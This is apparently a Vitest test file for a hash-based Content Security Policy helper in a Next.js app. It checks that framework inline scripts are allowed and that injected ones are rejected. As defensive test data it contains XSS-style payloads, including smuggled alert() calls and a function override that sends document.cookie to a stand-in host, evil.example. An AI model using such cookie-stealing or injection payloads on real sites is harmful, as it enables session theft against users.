import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { contentSecurityPolicy, frameworkScriptHashes, inlineScripts, isFrameworkScript } from "./csp.mjs";

const hashOf = (body) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`;
const BOOT = "(self.__next_f=self.__next_f||[]).push([0])";
const PAYLOAD = 'self.__next_f.push([1,"0:{\\"P\\":null}\\n"])';

describe("hash-based CSP", () => {
  it("allows the framework's payload scripts and nothing injected beside them", () => {
    const injected = "alert(document.cookie)";
    const html = `<html><head><script src="/_next/static/chunks/a.js" async></script></head><body><p>Hi</p><script>${BOOT}</script><script>${PAYLOAD}</script><script>${injected}</script><script type="application/ld+json">{"@type":"Person"}</script></body></html>`;
    const hashes = frameworkScriptHashes(html);
    expect(hashes).toEqual([hashOf(BOOT), hashOf(PAYLOAD)]);
    const policy = contentSecurityPolicy(hashes);
    expect(policy).toContain(`script-src 'self' ${hashOf(BOOT)} ${hashOf(PAYLOAD)};`);
    expect(policy).not.toContain(hashOf(injected));
    expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
  });

  it("refuses code smuggled next to a payload push", () => {
    expect(isFrameworkScript('self.__next_f.push([1,"a"]);alert(1);self.__next_f.push([1,"b"])')).toBe(false);
    expect(isFrameworkScript("self.__next_f.push(alert(1))")).toBe(false);
    expect(isFrameworkScript(PAYLOAD)).toBe(true);
    const bootstrap =
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});';
    expect(isFrameworkScript(bootstrap)).toBe(true);
    expect(isFrameworkScript(bootstrap.replace('{"otherChunks"', '{a:alert(1),"otherChunks"'))).toBe(false);
  });

  it("accepts React's own runtime and calls of it, not a look-alike", () => {
    expect(isFrameworkScript("requestAnimationFrame(function(){$RT=performance.now()});")).toBe(true);
    expect(isFrameworkScript('$RC("B:0","S:0")')).toBe(true);
    expect(isFrameworkScript('$RX("B:1","digest","it failed (twice)")')).toBe(true);
    expect(isFrameworkScript('$RC=function(a,b){fetch("//evil.example/"+document.cookie)};$RC("B:0","S:0")')).toBe(false);
    expect(isFrameworkScript('$RC("B:0",alert(1))')).toBe(false);
  });

  it("finds only scripts a browser would run inline", () => {
    expect(
      inlineScripts(
        '<script type="module">a()</script><script src=x.js></script><script type="application/json">{}</script><SCRIPT>b()</SCRIPT>',
      ),
    ).toEqual(["a()", "b()"]);
  });
});
